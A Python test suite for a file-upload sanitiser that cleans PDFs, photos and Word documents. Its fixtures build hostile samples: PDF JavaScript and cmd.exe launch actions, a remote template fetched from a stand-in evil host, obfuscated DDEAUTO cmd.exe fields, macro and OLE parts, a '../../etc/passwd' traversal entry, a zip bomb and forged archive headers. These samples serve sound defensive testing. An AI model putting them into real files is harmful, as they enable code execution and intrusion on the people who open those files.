"""What goes to everybody is opened, rid of what could act, and written anew; what is not as it says is refused."""

import io
import zipfile

import pikepdf
import pytest
from PIL import Image

from certificates.errors import UploadDamaged, UploadEmpty, UploadTooLarge
from services.guides import office
from services.guides.cleaning import clean
from services.guides.errors import FileTypeRefused, FileUnsafe
from tests.factories.guides import a_docx, a_pdf, a_picture, an_upload

_EXTERNAL = (
    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def external(kind: str, target: str, mode: str = "External", first: str = "r1") -> str:
    told = f'Id="{first}" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"'
    return f"<Relationships><Relationship {told}/></Relationships>"


def hostile_pdf() -> bytes:
    with pikepdf.open(io.BytesIO(a_pdf())) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
        pdf.Root.OpenAction = script
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", script]))
        pdf.attachments["evil.exe"] = b"MZ evil"
        page = pdf.pages[0]
        page.obj.AA = pikepdf.Dictionary(O=script)
        link = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": [0, 0, 9, 9]}
        good = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.cn/")
        bad = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(1)")
        page.obj.Annots = pikepdf.Array(
            pdf.make_indirect(pikepdf.Dictionary({f"/{key}": value for key, value in link.items()} | {"/A": action}))
            for action in (launch, good, bad)
        )
        outline = pikepdf.Dictionary(Title="x", A=script)
        pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(First=pdf.make_indirect(outline)))
        target = io.BytesIO()
        pdf.save(target)
        return target.getvalue()


def test_a_pdf_loses_scripts_attachments_and_launches_and_keeps_pages_and_links():
    file = clean(an_upload(hostile_pdf()))
    assert (file.media_type, file.name) == ("application/pdf", "申请表")
    with pikepdf.open(io.BytesIO(file.content)) as pdf:
        assert len(pdf.pages) == 1
        assert len(pdf.attachments) == 0
        actions = {str(one.A.S): str(one.A.get("/URI", "")) for one in pdf.pages[0].Annots}
        text = b"".join(one.unparse() for one in pdf.objects if not isinstance(one, pikepdf.Stream))
    assert actions == {"/Named": "", "/URI": "https://example.cn/"}
    for word in (b"JavaScript", b"app.alert", b"Launch", b"cmd.exe", b"evil", b"javascript:"):
        assert word not in text


def test_what_stands_before_or_behind_a_file_is_gone():
    pdf = clean(an_upload(a_pdf() + b"\n<script>alert(1)</script>PK\x03\x04")).content
    picture = clean(an_upload(a_picture() + b"<?php evil ?>", "样.png")).content
    word = clean(an_upload(a_docx() + b"MZ evil", "表.docx")).content
    for content in (pdf, picture, word):
        assert b"evil" not in content
        assert b"<script>" not in content


def test_a_photograph_forgets_where_it_was_taken():
    exif = Image.Exif()
    exif[0x010F] = "Maker"
    exif[0x0112] = 6  # turned
    file = clean(an_upload(a_picture("JPEG", exif=exif), "照片.jpg"))
    with Image.open(io.BytesIO(file.content)) as picture:
        assert not picture.getexif()
        assert picture.size == (30, 40)


def test_a_word_file_is_taken_and_named_without_its_ending():
    file = clean(an_upload(a_docx(), "../夹/申请 表.docx"))
    assert (file.media_type, file.name) == (office.DOCX, "申请 表")
    assert zipfile.ZipFile(io.BytesIO(file.content)).read("word/document.xml") == "<w:document>甲</w:document>".encode()


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"", UploadEmpty),
        (b"MZ\x90\x00 this is a program", FileTypeRefused),
        (b"<html><script>alert(1)</script></html>", FileTypeRefused),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', FileTypeRefused),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old word", FileTypeRefused),
        (b"%PDF-1.7 nothing more", UploadDamaged),
        (b"\x89PNG\r\n\x1a\n nothing more", UploadDamaged),
        (b"PK\x03\x04 nothing more", UploadDamaged),
    ],
)
def test_what_is_not_what_it_says_is_refused(content, error):
    with pytest.raises(error):
        clean(an_upload(content))


@pytest.mark.parametrize(
    ("parts", "error"),
    [
        ({"word/vbaProject.bin": b"x"}, FileUnsafe),
        ({"word/embeddings/oleObject1.bin": b"x"}, FileUnsafe),
        ({"word/activeX/activeX1.xml": b"x"}, FileUnsafe),
        ({"word/_rels/settings.xml.rels": _EXTERNAL}, FileUnsafe),
        ({"word/a.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}, FileUnsafe),
        # the same word in other letters, names and places
        ({"word/_rels/settings.xml.rels": external("attachedTemplate", "http://e/hyperlink")}, FileUnsafe),
        ({"word/_rels/settings.xml.rels": external("attachedTemplate", "http://e/t", "&#69;xternal")}, FileUnsafe),
        ({"word/_rels/settings.xml.rels": external("attachedTemplate", "http://e/t", first="a>b")}, FileUnsafe),
        ({"word/_rels/settings.xml.RELS": external("attachedTemplate", "http://e/t")}, FileUnsafe),
        ({"word/_rels/a.xml.rels": external("attachedTemplate", "http://e/t").encode("utf-16")}, FileUnsafe),
        ({"word/_rels/a.xml.rels": external("hyperlink", "file://server/share")}, FileUnsafe),
        ({"word/a.xml": "<p><instrText>DD</instrText><r/><instrText>E cmd</instrText></p>"}, FileUnsafe),
        ({"word/a.dat": '<w:fldSimple w:instr=" dde&#65;uto cmd"/>'}, FileUnsafe),
        ({"word/a.xml": '<p><instrText> INCLUDEPICTURE "http://e/a.png"</instrText></p>'}, FileUnsafe),
        ({"WORD/DOCUMENT.XML": b"<x/>"}, UploadDamaged),
        ({"word/a.xml": b"<not whole"}, UploadDamaged),
        ({"word/a.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'}, UploadDamaged),
        ({"../../etc/passwd": b"x"}, UploadDamaged),
        ({"word/bomb.xml": b"0" * 40_000_000}, UploadDamaged),
        ({"xl/workbook.xml": b"<x/>"}, FileTypeRefused),
    ],
)
def test_an_archive_that_could_harm_is_refused(parts, error):
    with pytest.raises(error):
        clean(an_upload(a_docx(parts), "表.docx"))


def test_a_macro_hides_behind_no_spelling_of_its_type():
    types = (
        '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>'
        '<Override PartName="/word/document.xml" ContentType="application/xml"/></Types>'
    )
    with pytest.raises(FileUnsafe):
        clean(an_upload(a_docx(types=types), "表.docx"))


def test_links_and_page_numbers_are_no_danger():
    parts = {
        "word/_rels/document.xml.rels": external("hyperlink", "https://example.cn/?a=1&amp;b=2"),
        "word/footer1.xml": '<p><fldChar/><instrText> PAGE </instrText><fldSimple instr="HYPERLINK x"/></p>',
    }
    assert clean(an_upload(a_docx(parts), "表.docx")).media_type == office.DOCX


def test_a_plain_archive_and_a_header_that_lies_are_refused():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", "x")
    with pytest.raises(FileTypeRefused):
        clean(an_upload(file.getvalue(), "a.docx"))
    lying = bytearray(a_docx({"word/big.xml": b"0" * 5_000_000}))
    at = lying.rindex(b"word/big.xml") - 46 + 24  # the size in the central directory
    lying[at : at + 4] = (10).to_bytes(4, "little")
    with pytest.raises(UploadDamaged):
        clean(an_upload(bytes(lying), "a.docx"))


def test_a_file_over_the_limit_is_refused_before_it_is_read(settings):
    settings.UPLOAD_MAX_BYTES = 10
    with pytest.raises(UploadTooLarge):
        clean(an_upload(a_pdf()))
